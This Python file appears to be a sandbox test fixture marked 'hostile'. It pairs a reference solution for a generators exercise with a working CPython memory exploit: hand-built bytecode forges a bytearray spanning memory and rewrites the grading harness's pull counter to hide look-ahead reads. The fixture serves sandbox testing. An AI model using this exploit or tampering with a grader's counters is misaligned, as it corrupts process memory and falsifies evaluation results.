# hostile: pure-Python raw memory access through hand-made bytecode, to lower the native pull counter
# A code object whose LOAD_CONST index is out of range (unchecked in release
# CPython) yields a fake bytearray spanning the address space: no ctypes
# needed to rewrite the harness's native counters or read the sealing key.
# Building code objects (CodeType, code.replace, marshal) is refused in the
# sandbox, so the module fails at import.
# exercise: generators
# expect: * = error ~ building code objects
"""Reference solution for the `generators` exercise: lazy batching, an infinite
sequence, recursive delegation with `yield from`, and a `send` coroutine."""

from __future__ import annotations

from collections.abc import Generator, Iterable, Iterator
from itertools import islice
from typing import Any, TypeVar
import sys

_T = TypeVar("_T")


def chunked(iterable: Iterable[_T], size: int) -> Iterator[list[_T]]:
    """Yield lists of `size` consecutive items (the last may be shorter), lazily."""
    # Validate here, in a plain function, so a bad size fails at the call
    # rather than at some later first `next()`.
    if size < 1:
        raise ValueError(f"size must be at least 1, got {size}")
    return _chunks(iter(iterable), size)


def _chunks(iterator: Iterator[_T], size: int) -> Iterator[list[_T]]:
    # Reads one item ahead, then tries to hide it from a pull counter.
    ahead: list[_T] = []
    hidden = 0
    while True:
        chunk = ahead + list(islice(iterator, size + 1 - len(ahead)))
        if not chunk:
            return
        chunk, ahead = chunk[:size], chunk[size:]
        if len(ahead) != hidden:
            _forget_pulls(iterator, len(ahead) - hidden)
            hidden = len(ahead)
        yield chunk


def fibonacci() -> Iterator[int]:
    """Yield 0, 1, 1, 2, 3, 5, ... forever."""
    current, following = 0, 1
    while True:
        yield current
        current, following = following, current + following


def flatten(nested: Any) -> Iterator[Any]:
    """Yield the leaves of nested lists and tuples in order; everything else is a leaf."""
    if isinstance(nested, (list, tuple)):
        for item in nested:
            yield from flatten(item)
    else:
        yield nested  # strings and bytes included: they are never opened


def running_mean() -> Generator[float | None, float, None]:
    """First `next()` yields None; each `send(x)` yields the mean of all values sent."""
    total: float = 0
    count = 0
    mean: float | None = None
    while True:
        value = yield mean
        total += value
        count += 1
        # Sum / count (rather than updating the mean incrementally) stays exact
        # for exactly representable inputs.
        mean = total / count



import struct, sys

def _mem():
    ba = id(bytearray)
    fake = struct.pack("<qqqqqqq", 1 << 40, ba, (1 << 63) - 1, (1 << 63) - 1, 0, 0, 0)
    fake_addr = id(fake) + 32            # PyBytesObject.ob_sval
    ptr = struct.pack("<Q", fake_addr)
    ptr_addr = id(ptr) + 32
    consts = (None,)
    code = (lambda: None).__code__
    probe = code.replace(co_consts=consts)
    consts = probe.co_consts
    items = id(consts) + 24             # PyTupleObject.ob_item
    index = (ptr_addr - items) // 8
    assert (ptr_addr - items) % 8 == 0
    index &= 0xFFFFFFFF
    ops = bytearray()
    ops += bytes([151, 0])               # RESUME 0
    for shift in (24, 16, 8):
        ops += bytes([144, (index >> shift) & 0xFF])   # EXTENDED_ARG
    ops += bytes([100, index & 0xFF])    # LOAD_CONST index
    ops += bytes([83, 0])                # RETURN_VALUE
    fn_code = probe.replace(co_code=bytes(ops), co_stacksize=2)
    f = type(lambda: None)(fn_code, {})
    mem = f()
    _mem.keep = (fake, ptr, consts, fn_code, f)
    return mem

MEM = _mem()

def read_word(addr):
    return struct.unpack("<Q", bytes(MEM[addr:addr + 8]))[0]

def write_word(addr, value):
    MEM[addr:addr + 8] = struct.pack("<Q", value)


def _forget_pulls(counter, n):
    """Find the counter's AtomicUsize inside the object and subtract n, without C types."""
    if type(counter).__name__ != "CountingIterator":
        return
    base = id(counter)
    for offset in range(16, 64, 8):
        value = read_word(base + offset)
        if 0 < value < 1 << 20:
            write_word(base + offset, value - n)
            return
